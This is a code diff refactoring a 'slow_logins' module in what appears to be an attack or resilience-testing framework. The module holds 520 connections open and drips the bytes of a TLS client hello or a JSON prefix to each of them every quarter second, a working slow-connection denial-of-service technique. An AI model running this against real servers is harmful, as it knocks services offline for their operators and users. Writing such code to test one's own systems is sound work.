@@ -8,7 +8,7 @@ import contextlib
 import socket
 
 from attacks import Claim, Foothold, Goal, attack
-from attacks.floods import client_hello, many
+from attacks.floods import client_hello, held, until_over
 
 NUMBER = 520
 SECONDS_A_BYTE = 0.25
@@ -27,25 +27,22 @@ async def slow_logins(foothold: Foothold, goal: Goal) -> Claim:
     """
     await foothold.until("talking")
     beginning = client_hello() if foothold.stage.wants_authority else b'{"type":"'
-    held = await many(foothold, NUMBER)
-    foothold.note(f"{len(held)} connections stand, and each says a byte every {SECONDS_A_BYTE:g} s")
-    dripping = asyncio.create_task(drip(held, beginning))
-    await foothold.until("over")
-    dripping.cancel()
+    async with held(foothold, NUMBER) as connections:
+        foothold.note(f"{len(connections)} connections stand, and each says a byte every {SECONDS_A_BYTE:g} s")
+        said = await until_over(foothold, drip(connections, beginning))
+    return Claim(did=f"held {len(connections)} connections with a byte every {SECONDS_A_BYTE:g} s, {said} in all")
+
+
+async def drip(connections: list[socket.socket], beginning: bytes) -> int:
+    """A byte on each, then a pause, until the beginning is said: the pause is the attack. Returns how many it were."""
+    said = 0
     with contextlib.suppress(asyncio.CancelledError):
-        await dripping
-    for sock in held:
-        sock.close()
-    return Claim(did=f"held {len(held)} connections with a byte every {SECONDS_A_BYTE:g} s")
-
-
-async def drip(held: list[socket.socket], beginning: bytes) -> None:
-    """A byte on each, then a pause, until the beginning is said: the pause is the attack."""
-    for place in range(len(beginning)):
-        for sock in held:
-            with contextlib.suppress(OSError):  # that one was cut
-                sock.send(beginning[place : place + 1])
-        await asyncio.sleep(SECONDS_A_BYTE)
+        for place in range(len(beginning)):
+            for sock in connections:
+                with contextlib.suppress(OSError):  # that one was cut
+                    said += sock.send(beginning[place : place + 1])
+            await asyncio.sleep(SECONDS_A_BYTE)
+    return said
 
 
 if __name__ == "__main__":
